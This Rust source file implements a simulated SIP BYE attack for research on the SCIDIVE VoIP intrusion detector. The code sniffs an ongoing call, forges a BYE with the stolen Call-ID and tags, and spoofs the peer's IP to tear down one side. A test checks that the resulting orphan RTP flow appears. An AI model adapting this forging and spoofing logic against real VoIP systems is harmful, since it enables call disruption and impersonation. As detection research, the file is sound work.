@@ -1,0 +1,225 @@
+//! The BYE attack (paper §4.2.1, Figure 5).
+//!
+//! The attacker sniffs an ongoing dialog between A and B, then sends A a
+//! forged BYE that claims to come from B (spoofed source IP, B's tag and
+//! Call-ID). A tears the session down and stops its media; B, unaware,
+//! keeps streaming RTP at A — the orphan flow SCIDIVE's cross-protocol
+//! rule detects.
+
+use crate::sniff::DialogSniffer;
+use scidive_netsim::node::{Node, NodeCtx, TimerToken};
+use scidive_netsim::packet::IpPacket;
+use scidive_netsim::time::{SimDuration, SimTime};
+use scidive_sip::header::{CSeq, NameAddr, Via};
+use scidive_sip::method::Method;
+use scidive_sip::msg::{RequestBuilder, SipMessage};
+use scidive_sip::uri::SipUri;
+use std::any::Any;
+use std::net::Ipv4Addr;
+
+const TOK_FIRE: TimerToken = 1;
+
+/// Configuration of the BYE attacker.
+#[derive(Debug, Clone)]
+pub struct ByeAttackConfig {
+    /// The attacker's own address.
+    pub attacker_ip: Ipv4Addr,
+    /// The victim (client A, the call's originator) — receives the BYE.
+    pub victim_ip: Ipv4Addr,
+    /// The impersonated peer (client B).
+    pub peer_ip: Ipv4Addr,
+    /// The victim's AOR (caller side of the sniffed dialog).
+    pub caller_aor: String,
+    /// The impersonated peer's AOR (callee side).
+    pub callee_aor: String,
+    /// How long after the call establishes to strike.
+    pub delay_after_established: SimDuration,
+    /// Spoof the IP source as the peer (defeats naive IP checks).
+    pub spoof_ip: bool,
+}
+
+impl ByeAttackConfig {
+    /// A standard config striking `delay` after call setup.
+    pub fn new(
+        attacker_ip: Ipv4Addr,
+        victim_ip: Ipv4Addr,
+        peer_ip: Ipv4Addr,
+        delay: SimDuration,
+    ) -> ByeAttackConfig {
+        ByeAttackConfig {
+            attacker_ip,
+            victim_ip,
+            peer_ip,
+            caller_aor: "alice@lab".to_string(),
+            callee_aor: "bob@lab".to_string(),
+            delay_after_established: delay,
+            spoof_ip: true,
+        }
+    }
+}
+
+/// The BYE attacker node.
+#[derive(Debug)]
+pub struct ByeAttacker {
+    config: ByeAttackConfig,
+    sniffer: DialogSniffer,
+    fired: bool,
+    /// When the forged BYE left, if it has (ground truth for detection
+    /// delay measurements).
+    pub fired_at: Option<SimTime>,
+}
+
+impl ByeAttacker {
+    /// Creates the attacker.
+    pub fn new(config: ByeAttackConfig) -> ByeAttacker {
+        let sniffer = DialogSniffer::new(config.caller_aor.clone(), config.callee_aor.clone());
+        ByeAttacker {
+            config,
+            sniffer,
+            fired: false,
+            fired_at: None,
+        }
+    }
+
+    /// Builds the forged BYE from everything sniffed.
+    fn forge_bye(&self) -> SipMessage {
+        let d = self.sniffer.dialog();
+        let target = d
+            .caller_contact
+            .clone()
+            .unwrap_or_else(|| SipUri::new("alice", self.config.victim_ip.to_string()));
+        let mut from = NameAddr::new(
+            format!("sip:{}", self.config.callee_aor).parse().expect("aor uri"),
+        );
+        if let Some(tag) = &d.callee_tag {
+            from = from.with_tag(tag);
+        }
+        let mut to = NameAddr::new(
+            format!("sip:{}", self.config.caller_aor).parse().expect("aor uri"),
+        );
+        if let Some(tag) = &d.caller_tag {
+            to = to.with_tag(tag);
+        }
+        let mut b = RequestBuilder::new(Method::Bye, target);
+        b.from(from)
+            .to(to)
+            .call_id(&d.call_id)
+            .cseq(CSeq::new(d.invite_cseq + 100, Method::Bye))
+            .via(Via::udp(
+                format!("{}:5060", self.config.peer_ip),
+                "z9hG4bK-forged-bye",
+            ));
+        b.build()
+    }
+}
+
+impl Node for ByeAttacker {
+    fn on_packet(&mut self, ctx: &mut NodeCtx<'_>, pkt: IpPacket) {
+        if self.fired {
+            return;
+        }
+        let Ok(udp) = pkt.decode_udp() else {
+            return;
+        };
+        if udp.dst_port != 5060 && udp.src_port != 5060 {
+            return;
+        }
+        let Ok(msg) = SipMessage::parse(&udp.payload) else {
+            return;
+        };
+        if self.sniffer.observe(&msg) {
+            ctx.set_timer(self.config.delay_after_established, TOK_FIRE);
+        }
+    }
+
+    fn on_timer(&mut self, ctx: &mut NodeCtx<'_>, token: TimerToken) {
+        if token != TOK_FIRE || self.fired || !self.sniffer.is_established() {
+            return;
+        }
+        self.fired = true;
+        self.fired_at = Some(ctx.now());
+        let bye = self.forge_bye();
+        let src = if self.config.spoof_ip {
+            self.config.peer_ip
+        } else {
+            self.config.attacker_ip
+        };
+        ctx.send(IpPacket::udp(
+            src,
+            5060,
+            self.config.victim_ip,
+            5060,
+            bye.to_bytes(),
+        ));
+    }
+
+    fn as_any(&self) -> &dyn Any {
+        self
+    }
+
+    fn as_any_mut(&mut self) -> &mut dyn Any {
+        self
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use scidive_netsim::link::LinkParams;
+    use scidive_netsim::time::SimDuration;
+    use scidive_voip::events::UaEventKind;
+    use scidive_voip::scenario::TestbedBuilder;
+
+    #[test]
+    fn forged_bye_tears_down_a_but_not_b() {
+        let mut tb = TestbedBuilder::new(11)
+            .standard_call(SimDuration::from_millis(500), None)
+            .build();
+        let ep = tb.endpoints.clone();
+        let cfg = ByeAttackConfig::new(
+            ep.attacker_ip,
+            ep.a_ip,
+            ep.b_ip,
+            SimDuration::from_millis(1_000),
+        );
+        let attacker = tb.add_node(
+            "attacker",
+            ep.attacker_ip,
+            LinkParams::lan(),
+            Box::new(ByeAttacker::new(cfg)),
+        );
+        tb.run_for(SimDuration::from_secs(5));
+
+        // A believes B hung up.
+        assert!(tb.a_events().iter().any(
+            |e| matches!(&e.kind, UaEventKind::CallTerminated { by_remote: true, .. })
+        ));
+        // B never saw a teardown: still in the call.
+        assert!(tb.ua(tb.b).unwrap().has_active_call());
+        assert!(!tb
+            .b_events()
+            .iter()
+            .any(|e| matches!(&e.kind, UaEventKind::CallTerminated { .. })));
+        // The attack fired.
+        let atk = tb.sim.node_as::<ByeAttacker>(attacker).unwrap();
+        assert!(atk.fired_at.is_some());
+        // Orphan flow: RTP from B towards A continues after the BYE.
+        let fired_at = atk.fired_at.unwrap();
+        let orphan = tb
+            .sim
+            .trace()
+            .records()
+            .iter()
+            .filter(|r| {
+                r.time > fired_at
+                    && r.packet.src == ep.b_ip
+                    && r.packet.dst == ep.a_ip
+                    && r.packet
+                        .decode_udp()
+                        .map(|u| u.dst_port == ep.a_rtp)
+                        .unwrap_or(false)
+            })
+            .count();
+        assert!(orphan > 10, "orphan RTP packets: {orphan}");
+    }
+}
